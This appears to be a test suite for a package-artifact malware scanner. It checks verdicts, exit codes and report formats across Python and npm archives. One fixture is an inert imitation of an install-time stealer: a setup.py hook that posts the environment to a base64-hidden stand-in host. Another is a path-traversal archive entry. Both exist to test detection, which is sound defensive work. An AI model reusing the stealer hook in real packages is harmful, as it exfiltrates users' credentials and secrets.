import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { makeNpmTgz, makeSdist, makeTarGz, makeWheel, makeZip } from '../helpers/archives.js';
import { runCli } from '../helpers/cli.js';
import type { JsonReport } from '../helpers/cli.js';


const dir = mkdtempSync(join(tmpdir(), 'vigil-cli-'));
const env = { HOME: dir, PATH: process.env.PATH, VIGIL_CACHE_DIR: join(dir, 'cache') };

const BENIGN_SETUP = `from setuptools import setup\nsetup(name="tidy-dates", version="1.0.0", packages=["tidy_dates"])\n`;
const BENIGN_INIT = `"""Small helpers for dates."""\nimport datetime\n\ndef today():\n    return datetime.date.today().isoformat()\n`;
// Inert imitation of an install-time stealer: posts the environment to a base64-hidden `.invalid` host.
const EVIL_SETUP = [
  'import os, base64, json, urllib.request',
  'from setuptools import setup',
  'from setuptools.command.install import install',
  '',
  'class PostInstall(install):',
  '    def run(self):',
  "        host = base64.b64decode('aHR0cHM6Ly9jb2xsZWN0LmV4YW1wbGUuaW52YWxpZC91cA==').decode()",
  '        data = json.dumps(dict(os.environ)).encode()',
  '        urllib.request.urlopen(urllib.request.Request(host, data=data))',
  '        install.run(self)',
  '',
  'setup(name="tidy-dates", version="1.0.1", cmdclass={"install": PostInstall})',
  '',
].join('\n');

function write(name: string, bytes: Uint8Array): string {
  const p = join(dir, name);
  writeFileSync(p, bytes);
  return p;
}

test('scans local artifacts of every kind, recognised by content, with the JSON contract', async () => {
  const sdist = write('tidy-dates-1.0.0.tar.gz', makeSdist('tidy-dates', '1.0.0', { 'setup.py': BENIGN_SETUP, 'tidy_dates/__init__.py': BENIGN_INIT }));
  const wheel = write('tidy_dates-1.0.0-py3-none-any.whl', makeWheel('tidy-dates', '1.0.0', { 'tidy_dates/__init__.py': BENIGN_INIT }));
  // A wheel that lies about its extension.
  const liar = write('tidy-dates-1.0.0.tar.gz.bin', makeWheel('tidy-dates', '1.0.0', { 'tidy_dates/__init__.py': BENIGN_INIT }));
  const tgz = write('tiny-1.0.0.tgz', makeNpmTgz({ name: 'tiny', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = (a, b) => a + b;\n' }));
  const zip = write('tidy-dates-1.0.0.zip', makeZip({ 'tidy-dates-1.0.0/setup.py': BENIGN_SETUP }));
  const folder = join(dir, 'unpacked');
  mkdirSync(join(folder, 'tidy_dates'), { recursive: true });
  writeFileSync(join(folder, 'setup.py'), BENIGN_SETUP);
  writeFileSync(join(folder, 'tidy_dates', '__init__.py'), BENIGN_INIT);
  const loose = join(dir, 'setup.py');
  writeFileSync(loose, BENIGN_SETUP);

  const targets = [sdist, wheel, liar, tgz, zip, folder, loose];
  const run = await runCli(['scan', '--format', 'json', '--jobs', '2', ...targets], { env });
  assert.equal(run.code, 0, run.stderr);
  const report = JSON.parse(run.stdout) as JsonReport;
  assert.deepEqual(report.results.map((r) => r.target), targets);
  for (const r of report.results) {
    assert.equal(r.verdict, 'clean', `${r.target}: ${JSON.stringify(r.findings)}`);
    assert.deepEqual(r.errors, []);
  }
  assert.equal(report.results[0]!.name, 'tidy-dates');
  assert.equal(report.results[0]!.version, '1.0.0');
  assert.equal(report.results[0]!.ecosystem, 'pypi');
  assert.match(report.results[0]!.artifacts[0]!.sha256, /^[0-9a-f]{64}$/);
  assert.equal(report.results[2]!.name, 'tidy-dates', 'wheel named .bin is read as a wheel');
  assert.equal(report.results[3]!.ecosystem, 'npm');
  assert.equal(report.results[3]!.name, 'tiny');
});

test('an install hook that posts the environment to a hidden host is malicious: exit 1, evidence with file:line', async () => {
  const evil = write('tidy-dates-1.0.1.tar.gz', makeSdist('tidy-dates', '1.0.1', { 'setup.py': EVIL_SETUP }));
  const run = await runCli(['scan', '--format', 'json', evil], { env });
  const report = JSON.parse(run.stdout) as JsonReport;
  const r = report.results[0]!;
  assert.equal(r.verdict, 'malicious', JSON.stringify(r.findings, null, 1));
  assert.equal(run.code, 1);
  assert.ok(r.findings.some((f) => f.location.path.endsWith('setup.py') && f.location.line > 0 && f.evidence !== ''));
  const never = await runCli(['scan', '--fail-on', 'never', evil], { env });
  assert.equal(never.code, 0);
  assert.match(never.stdout, /MALICIOUS/);
});

test('one failing target never stops the others; missing targets exit 2 with a message', async () => {
  const ok = write('ok-1.0.0.tar.gz', makeSdist('ok', '1.0.0', { 'setup.py': BENIGN_SETUP }));
  const run = await runCli(['scan', '--format', 'json', join(dir, 'missing.tar.gz'), ok], { env });
  assert.equal(run.code, 2);
  const report = JSON.parse(run.stdout) as JsonReport;
  assert.equal(report.results.length, 2);
  assert.equal(report.results[0]!.errors[0]!.code, 'E_TARGET');
  assert.deepEqual(report.results[1]!.errors, []);
  assert.match(run.stderr, /missing\.tar\.gz/);
  assert.doesNotMatch(run.stderr, /\n\s+at /, 'no stack trace');
});

test('hostile archives are findings, not crashes', async () => {
  const traversal = write('trav-1.0.tar.gz', makeTarGz({ '../../etc/evil.py': 'x = 1\n', 'trav-1.0/setup.py': BENIGN_SETUP }));
  const corrupt = write('corrupt-1.0.tar.gz', new Uint8Array([0x1f, 0x8b, 8, 0, 1, 2, 3, 4, 5, 6, 7]));
  const run = await runCli(['scan', '--format', 'json', '--fail-on', 'never', traversal, corrupt], { env });
  const report = JSON.parse(run.stdout) as JsonReport;
  assert.ok(report.results[0]!.findings.some((f) => f.ruleId === 'archive/path-traversal'));
  const second = report.results[1]!;
  assert.ok(second.errors.length > 0 || second.findings.some((f) => f.ruleId === 'archive/corrupt'), JSON.stringify(second));
});

test('--from, --output, sarif and usage errors', async () => {
  const ok = write('from-1.0.0.tar.gz', makeSdist('from', '1.0.0', { 'setup.py': BENIGN_SETUP }));
  const list = join(dir, 'targets.txt');
  writeFileSync(list, `# targets\n${ok}\n\n`);
  const out = join(dir, 'report.sarif');
  const run = await runCli(['scan', '--from', list, '--format', 'sarif', '--output', out], { env });
  assert.equal(run.code, 0, run.stderr);
  assert.equal(run.stdout, '');
  const sarif = JSON.parse(readFileSync(out, 'utf8')) as { version: string; runs: unknown[] };
  assert.equal(sarif.version, '2.1.0');
  assert.equal((await runCli(['scan'], { env })).code, 2);
  const bad = await runCli(['scan', '--format', 'xml', ok], { env });
  assert.equal(bad.code, 2);
  assert.match(bad.stderr, /--format/);
  const unknown = await runCli(['scan', '--bogus', ok], { env });
  assert.equal(unknown.code, 2);
  assert.match(unknown.stderr, /bogus/);
  const help = await runCli(['scan', '--help'], { env });
  assert.equal(help.code, 0);
  assert.match(help.stdout, /Exit codes/);
  assert.equal((await runCli(['nope'], { env })).code, 2);
});
